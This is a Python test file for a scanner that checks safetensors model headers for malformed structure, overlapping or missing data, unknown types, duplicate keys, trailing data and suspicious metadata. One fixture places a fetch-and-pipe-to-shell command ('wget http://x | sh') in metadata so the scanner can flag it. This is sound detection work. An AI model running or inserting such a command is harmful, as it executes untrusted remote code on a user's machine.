"""safetensors headers checked against the format and the file."""

from __future__ import annotations

import struct

import pytest
from tests.samples.texts import entry, safetensors, zipped
from tests.support.judging import judged, rules_of

from hanse.scan.dispatch import extract
from hanse.scan.safetensors import BITS, claims
from hanse.scan.source import BytesSource

ONE = {"a": entry(0, 16)}


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (struct.pack("<Q", 100_000_001) + b'{"a"' + bytes(9), "longer than 100 MB"),
        (struct.pack("<Q", 1000) + b"{}" + bytes(9), "longer than the file"),
        (struct.pack("<Q", 8) + b'{"\xff": 1}', "not UTF-8"),
        (safetensors('{"a": }'), "not JSON"),
        (safetensors("{} {}"), "not"),
        (safetensors('{"__metadata__": ' + "[" * 900 + "]" * 900 + "}"), "nested too deep"),
        (safetensors({"__metadata__": {"a": 1}}), "map from text to text"),
        (safetensors({"__metadata__": []}), "map from text to text"),
        (safetensors({"a": 1}), "lacks dtype"),
        (safetensors({"a": {"dtype": "F32", "shape": [4]}}), "lacks dtype"),
        (safetensors({"a": entry(0, 16) | {"shape": [-4]}}, bytes(16)), "whole numbers"),
        (safetensors({"a": entry(0, 16) | {"shape": [4.0]}}, bytes(16)), "whole numbers"),
        (safetensors({"a": entry(0, 16) | {"shape": [True]}}, bytes(16)), "whole numbers"),
        (safetensors({"a": entry(0, 16) | {"data_offsets": [0, 16, 16]}}, bytes(16)), "whole numbers"),
        (safetensors({"a": entry(0, 16) | {"data_offsets": [16, 0]}}, bytes(16)), "outside"),
        (safetensors({"a": entry(0, 32)}, bytes(16)), "outside"),
        (safetensors({"a": entry(0, 16, shape=(1 << 40, 1 << 40))}, bytes(16)), "overflows"),
        (safetensors({"a": entry(0, 16, shape=(5,))}, bytes(16)), "need 20"),
        (safetensors({"a": entry(0, 16), "b": entry(12, 28)}, bytes(28)), "overlaps"),
        (safetensors({"a": entry(0, 16), "b": entry(20, 36)}, bytes(36)), "hole"),
        (safetensors({"a": entry(4, 16)}, bytes(16)), "hole"),
    ],
)
def test_each_rule_of_the_format(data: bytes, reason: str) -> None:
    """What the format's reader refuses is suspicious, and the reason says which rule."""
    found = judged(data, "model.safetensors")
    assert rules_of(found) == {"SAFETENSORS-MALFORMED"}
    assert reason in found.findings[0].says


@pytest.mark.parametrize("dtype", BITS)
def test_every_type_of_the_format_is_known(dtype: str) -> None:
    """Sizes fit in bits, so that types smaller than a byte count right."""
    size = 8 * BITS[dtype] // 8
    assert judged(safetensors({"a": entry(0, size, dtype, (2, 4))}, bytes(size)), "m.safetensors").findings == ()


def test_other_findings() -> None:
    """Unknown types and commands in metadata need caution; duplicates and what follows the data are suspicious."""
    assert rules_of(judged(safetensors({"a": entry(0, 16, "X9")}, bytes(16)), "m.safetensors")) == {"SAFETENSORS-DTYPE"}
    odd = safetensors({"__metadata__": {"run": "wget http://x | sh", "url": "https://example.org"}, **ONE}, bytes(16))
    assert rules_of(judged(odd, "m.safetensors")) == {"SAFETENSORS-METADATA"}
    twice = safetensors(
        '{"a": {"dtype":"F32","shape":[0],"data_offsets":[0,0]}, "a": {"dtype":"F32","shape":[0],"data_offsets":[0,0]}}'
    )
    assert rules_of(judged(twice, "m.safetensors")) == {"SAFETENSORS-DUPLICATE-KEY"}
    assert "SAFETENSORS-TRAILING" in rules_of(judged(safetensors(ONE, bytes(16)) + zipped("a", b"b"), "m.safetensors"))


def test_the_header_alone_is_read() -> None:
    """Tensor data is never asked for, however large."""

    class Counting(BytesSource):
        read = 0

        def read_at(self, offset: int, length: int) -> bytes:
            Counting.read = max(Counting.read, offset + len(super().read_at(offset, length)))
            return super().read_at(offset, length)

    data = safetensors({"a": entry(0, 40_000_000)}, bytes(40_000_000))
    (view,) = extract(Counting(data)).of("safetensors")
    assert view.first("safetensors.tensors") is not None
    assert view.stopped is None


def test_empty_and_padded_headers_are_valid() -> None:
    """No tensors, empty tensors, scalars, and spaces after the JSON."""
    for header, data in (("{}", b""), ("{}       ", b""), ('{"a":{"dtype":"F32","shape":[0,3],"data_offsets":[0,0]}}', b"")):
        assert judged(safetensors(header, data), "m.safetensors").findings == ()
    scalar = safetensors({"a": entry(0, 4, shape=())}, bytes(4))
    assert judged(scalar, "m.safetensors").findings == ()


def test_numbers_are_no_header() -> None:
    """A brace among numbers is not claimed; a header that is longer than its file is, and so is one with blanks in front."""
    for data in (struct.pack("<4q", 5, 123, 9, 9), struct.pack("<4q", 5, 0x227B, 9, 9), struct.pack("<q", 40) + b"{'a': 1}"):
        assert not claims(data, BytesSource(data))
    for data in (struct.pack("<Q", 1000) + b'{"a', struct.pack("<Q", 5) + b"{ \n }", struct.pack("<Q", 1000) + b"{ "):
        assert claims(data, BytesSource(data))


def test_shapes_of_embeddings() -> None:
    """The shapes of at most sixteen matrices of words are kept."""
    names = {f"{number:02}.embed_tokens.weight": entry(0, 0, shape=(0, 4)) for number in range(20)}
    (view,) = extract(BytesSource(safetensors({**names, "other.weight": entry(0, 0, shape=(0, 2))}))).of("safetensors")
    assert [one.data["shape"] for one in view.all("safetensors.embedding")] == [[0, 4]] * 16


def test_outline() -> None:
    """Layers are counted by the first number in a name, matrices without one are kept, and both are bounded."""
    names = [f"model.layers.{number}.mlp.experts.7.weight" for number in range(3)] + ["lm_head.weight", "0.weight"]
    header = {name: entry(0, 0, shape=(0, 4)) for name in names} | {"norm.weight": entry(0, 0, shape=(0,))}
    (view,) = extract(BytesSource(safetensors(header))).of("safetensors")
    (one,) = view.all("safetensors.outline")
    assert one.data["stacks"] == {"model.layers": 3}
    assert one.data["single"] == [["lm_head.weight", 0, 4, "F32"], ["0.weight", 0, 4, "F32"]]
    many = {f"stack{number}.{number}.weight": entry(0, 0, shape=(0, 4)) for number in range(1_200)}
    (view,) = extract(BytesSource(safetensors(many | {f"part{n}": entry(0, 0, shape=(0, 4)) for n in range(99)}))).of(
        "safetensors"
    )
    (one,) = view.all("safetensors.outline")
    assert (len(one.data["stacks"]), len(one.data["single"]), one.data["more"]) == (16, 32, True)
